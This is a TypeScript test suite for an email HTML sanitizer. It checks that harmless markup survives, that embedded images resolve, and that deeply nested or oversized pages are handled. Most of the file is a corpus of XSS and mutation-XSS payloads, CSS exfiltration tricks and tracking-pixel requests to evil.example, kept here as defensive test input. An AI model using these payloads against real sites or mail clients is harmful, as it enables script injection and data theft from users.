import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { cleanHtml } from "./clean-html.js";
import { htmlDocument } from "./html-document.js";

const own = { embedded: () => undefined, loadsRemote: false };
const clean = (html: string) => cleanHtml(html, own).html;

const known =
  /^<\/?(?:a|b|br|caption|div|font|hr|i|img|li|p|s|section|span|table|tbody|td|thead|tr|ul)(?: (?:\/|[a-z]+="[^"<>]*"))*>$/;
const knownAttribute =
  /^ (?:align|alt|cite|class|color|href|rel|size|src|style|summary|target|title|type|width|start)=/;
const harmless =
  /^ (?:href="(?:https?:\/\/|mailto:)(?!evil)|src="data:image\/png;base64,[\w+/=]*"|style="(?!.*(?:url|expression|image|attr|var|inset|evil))|(?!href|src|style))/;

/**
 * Returns everything in cleaned HTML that is not a tag of a known element with quoted, known and harmless attributes.
 */
function dangersIn(cleaned: string): string[] {
  const [tags, texts] = [cleaned.match(/<[^>]*>?/g) ?? [], cleaned.split(/<[^>]*>/)];
  const attributes = tags.flatMap((tag) => tag.match(/ [^\s=/>]+="[^"]*"/g) ?? []);
  return [
    ...tags.filter((tag) => !known.test(tag)),
    ...attributes.filter((attribute) => !knownAttribute.test(attribute) || !harmless.test(attribute)),
    ...texts.filter((text) => /[<>]/.test(text)),
  ];
}

describe("what is harmless stays", () => {
  test.each([
    ["<p>I charge <b>$450</b>.</p>", "<p>I charge <b>$450</b>.</p>"],
    ['<a href="https://lena.example/rates?a=1&amp;b=2">rates</a>', 'href="https://lena.example/rates?a=1&amp;b=2"'],
    ['<td style="color: red; padding:4px">x', '<td style="color: red; padding: 4px">x</td>'],
    ["<p>unclosed <i>and <b>nested", "<p>unclosed <i>and <b>nested</b></i></p>"],
    ['<img src="data:image/png;base64,AAAA" alt="logo">', '<img alt="logo" src="data:image/png;base64,AAAA" />'],
  ])("%s", (html, expected) => {
    expect(clean(html)).toContain(expected);
  });
});

describe("what could run, send or load does not", () => {
  test.each([
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<svg><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<form action="https://evil.example"><input name=p><button>go</button></form>',
    '<div style="background:url(https://evil.example/a.png)">x</div>',
    '<div style="background-color:u\\72l(https://evil.example)">x</div>',
    '<div style="position:fixed;top:0;left:0">x</div>',
    "<style>@import url(https://evil.example);</style>",
    '<link rel=stylesheet href="https://evil.example">',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<base href="https://evil.example">',
    '<img src="https://evil.example/pixel.gif">',
    '<img srcset="https://evil.example/pixel.gif 2x">',
    '<table background="https://evil.example/a.png"><tr><td>x</table>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<p title="x"><!--><img src=x onerror=alert(1)>--></p>',
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    '<object data="https://evil.example"></object>',
    '<video poster="https://evil.example"><source src="https://evil.example"></video>',
  ])("%s", (html) => {
    expect(clean(html)).not.toMatch(
      /evil|<script|<style|<svg|<form|<iframe|onerror\s*=\s*[^&]*>|position|javascript:/i,
    );
  });

  // Based on the lists of OWASP and of cure53 (DOMPurify's tests), and on papers about mutation XSS.
  test.each([
    // HTML that a parser reads differently the second time.
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><p><style><g title='</style><img src=x onerror=alert(1)>'>",
    "<svg><desc><table><thead><s></table></s><a title='</desc></svg><img src onerror=alert(1)>'></a>",
    "<svg><annotation-xml><foreignobject><style><!--</style><p id='--><img src=x onerror=alert(1)>'>",
    "<math><annotation-xml encoding='text/html'><style><img title='</style><script>alert(1)</script>'>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><svg/onload=alert(1)>'>",
    "<title><a title='</title><script>alert(1)</script>'>x</a>",
    "<iframe><p title='</iframe><img src=x onerror=alert(1)>'>",
    "<template><style></template><img src=x onerror=alert(1)>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<select><template><style><!--</style><a title='--><img src=x onerror=alert(1)>'>",
    "<table><caption><svg><title><table><caption></title><style><img src=x onerror=alert(1)></style>",
    "<plaintext><p title='</plaintext><script>alert(1)</script>'>",
    // Comments, declarations and text that looks like them.
    "<!--><script>alert(1)</script>-->",
    "<!---><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>]]>alert(1)<![CDATA[</script>]]>",
    "<?xml version='1.0'><script>alert(1)</script>?>",
    "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>&y;",
    // Tags that end in unexpected places.
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script/random>alert(1)</script >",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img \u0000src=x onerror\u0000=alert(1)>",
    "<a\u000chref='java\u0000script:alert(1)'>x</a>",
    '<p title="a\u0000"onmouseover="alert(1)">x',
    "<p title='\"><script>alert(1)</script>'>x",
    '<p align="left&quot; onclick=&quot;alert(1)">x',
    '<p "onclick=alert(1)>x',
    '<a title="&lt;/a&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    // URLs.
    '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    '<a href="java&NewLine;script&colon;alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="\u0001javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="blob:https://evil.example/1">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="https:evil.example">x</a>',
    '<a xlink:href="javascript:alert(1)">x</a>',
    '<area href="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
    '<img src="data:text/html,<script>alert(1)</script>">',
    '<img src="data:image/png;base64,AAAA" onerror="alert(1)">',
    '<img src="cid:x" onerror="alert(1)">',
    '<img src="\\\\evil.example\\x.png">',
    '<img srcset="https://evil.example/a.png 1x, javascript:alert(1) 2x" sizes=100vw>',
    '<picture><source srcset="https://evil.example/a.png"><img lowsrc="https://evil.example/b.png" dynsrc="x"></picture>',
    '<image src="https://evil.example/a.png" onerror=alert(1)>',
    '<input type=image src="https://evil.example/a.png">',
    '<bgsound src="https://evil.example/a.mid">',
    '<link rel="dns-prefetch" href="//evil.example">',
    '<body background="https://evil.example/a.png" onload=alert(1)>',
    '<a ping="https://evil.example" href="https://lena.example">x</a>',
    // Styles.
    '<p style="width:expression(alert(1))">x',
    '<p style="width:e/**/xpression(alert(1))">x',
    '<p style="background-image:\\75rl(https://evil.example)">x',
    '<p style="list-style-image:url(https://evil.example)">x',
    '<p style="color:red;}</style><script>alert(1)</script>">x',
    "<p style=\"font-family:'x;background:url(https://evil.example)'\">x",
    '<p style="behavior:url(https://evil.example)">x',
    '<p style="-moz-binding:url(https://evil.example)">x',
    '<p style="color:var(--x,url(https://evil.example))">x',
    '<p style="width:attr(title url)">x',
    '<p style="background-color:image-set(&quot;https://evil.example&quot; 1x)">x',
    '<div style="opacity:0;z-index:9;inset:0;display:none;transform:scale(9)">x',
    "<style>@import 'https://evil.example';</style>",
    // Elements that take over the page without a script.
    '<form><input formaction="javascript:alert(1)"><button form=f>x</button></form>',
    '<p id="location" name="cookie" class="picture" contenteditable autofocus tabindex=1 onfocus=alert(1)>x',
    '<p is="x-evil" slot=y part=z popover>x',
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<audio src=x onerror=alert(1)></audio><video><source onerror=alert(1)></video>",
    '<frameset onload=alert(1)><frame src="https://evil.example"></frameset>',
    '<embed src="https://evil.example"><applet code=x></applet><param name=movie value=x>',
    '<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    '<p __proto__="x" constructor="y" toString="z" hasOwnProperty="w">x',
  ])("%s", (html) => {
    expect(dangersIn(clean(html))).toEqual([]);
  });

  test("whatever comes, only known elements and attributes are written", () => {
    const piece = fc.constantFrom(
      "<",
      ">",
      '"',
      "'",
      "=",
      "/",
      "img",
      "a",
      "p",
      " ",
      "src",
      "onclick",
      "script",
      "!--",
      "-->",
      "&#60;",
      "x",
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => {
        for (const [tag] of clean(pieces.join("")).matchAll(/<[^>]*>/g))
          expect(tag).toMatch(/^<\/?(?:a|p|img|span)(?: [a-z]+="[^"<>]*")*(?: \/)?>$/);
      }),
    );
  });
});

describe("pictures", () => {
  test("from elsewhere are counted, named by their text, and loaded only when asked for", () => {
    const html = '<img src="https://cdn.example/logo.png" alt="Our logo"><img src="//cdn.example/b.png">';

    expect(cleanHtml(html, own)).toEqual({ html: '<span class="picture">Our logo</span>', remote: 2 });
    const { html: loaded } = cleanHtml(html, { ...own, loadsRemote: true });
    expect(loaded).toBe(
      '<img alt="Our logo" src="https://cdn.example/logo.png" /><img src="https://cdn.example/b.png" />',
    );
  });

  test("that the mail brings along are shown from it", async () => {
    const raw = [
      'Content-Type: multipart/related; boundary="edge"',
      "",
      "--edge",
      "Content-Type: text/html; charset=utf-8",
      "",
      '<p>Hi <img src="cid:logo@lena"></p>',
      "--edge",
      "Content-Type: image/png",
      "Content-ID: <logo@lena>",
      "Content-Transfer-Encoding: base64",
      "",
      "iVBORw0KGgo=",
      "--edge--",
    ].join("\r\n");

    const shown = await htmlDocument(Buffer.from(raw), "own");

    expect(shown?.remote).toBe(0);
    expect(shown?.document).toContain('<img src="data:image/png;base64,iVBORw0KGgo=" />');
    expect(shown?.document).toContain("default-src 'none'; img-src data:;");
  });

  test("are found by their name among hundreds, however often they are asked for", async () => {
    const attached = (name: string, content: string) =>
      `--edge\r\nContent-Type: image/png\r\nContent-ID: ${name}\r\n\r\n${content}\r\n`;
    const others = Array.from({ length: 390 }, (_, index) => attached(`<other${index}>`, "other")).join("");
    const asked = `${'<img src="cid:none">'.repeat(18_000)}<img src="cid:Logo%40lena">`;
    const page = `--edge\r\nContent-Type: text/html\r\n\r\n${asked}\r\n`;
    const raw = `Content-Type: multipart/related; boundary="edge"\r\n\r\n${page}${others}${attached("<logo@LENA>", "first")}${attached("logo@lena", "second")}--edge--`;

    const shown = (await htmlDocument(Buffer.from(raw), "own"))?.document;

    expect(shown?.match(/src="[^"]*"/g)).toEqual([`src="data:image/png;base64,${btoa("first")}"`]);
  });

  test("that stand in it again and again make no endless page", async () => {
    const raw = [
      'Content-Type: multipart/related; boundary="edge"',
      "",
      "--edge",
      "Content-Type: text/html",
      "",
      '<img src="cid:a">'.repeat(1_000),
      "--edge",
      "Content-Type: image/png",
      "Content-ID: <a>",
      "",
      "x".repeat(1_000_000),
      "--edge--",
    ].join("\r\n");

    expect((await htmlDocument(Buffer.from(raw), "own"))?.document.length).toBeLessThan(20_000_000);
  });

  test("of a mail without HTML are none", async () => {
    expect(await htmlDocument(Buffer.from("Content-Type: text/plain\r\n\r\nHi"), "own")).toBeUndefined();
  });
});

test("of a page that nests without end the words stay, at a depth that a browser takes", () => {
  const cleaned = clean(`${"<div>".repeat(5_000)}deep${"</div>".repeat(5_000)}<p>after</p>`);

  expect(cleaned.match(/<div>/g)).toHaveLength(400);
  expect(cleaned.match(/<\/div>/g)).toHaveLength(400);
  expect(cleaned).toMatch(/deep(?:<\/div>){400}<p>after<\/p>$/);
});

test("what is never shown is not shown at any depth either", () => {
  const hidden = "<svg><style>hidden words</style></svg><script>hidden words</script><style>hidden words</style>";
  expect(clean(`${"<div>".repeat(5_000)}${hidden}seen`)).toMatch(/<div>seen<\/div>/);
});

test("of a page with more elements than anybody writes the words stay", () => {
  const cleaned = clean(`${"<i>x</i>".repeat(100_000)}<script>hidden words</script>`);

  expect(cleaned.match(/<i>/g)).toHaveLength(50_000);
  expect(cleaned.match(/x/g)).toHaveLength(100_000);
  expect(cleaned).not.toContain("hidden");
});

test("a page that nests without end is cleaned in time that grows with its length", () => {
  const html = "<div>".repeat(200_000);
  const start = process.cpuUsage();
  clean(html);
  const { user, system } = process.cpuUsage(start);
  expect((user + system) / 1_000).toBeLessThan(2_000);
});

test.each(["</p>", "</br>"])("a page of nothing but %s has no more elements than others", (tag) => {
  const cleaned = clean(`${tag.repeat(60_000)}<script>hidden words</script>x`);

  expect(cleaned.match(/<[a-z]/g)).toHaveLength(50_000);
  expect(cleaned.endsWith("x")).toBe(true);
});
